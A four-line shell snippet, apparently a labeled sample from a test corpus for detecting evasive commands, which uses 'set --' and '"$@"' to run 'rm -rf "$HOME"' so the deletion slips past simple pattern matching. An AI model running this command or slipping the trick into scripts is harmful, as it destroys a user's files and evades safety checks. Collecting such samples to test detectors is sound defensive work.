# evasion: rm -rf $HOME through set --
# grade: medium; does: delete
set -- rm -rf "$HOME"
"$@"
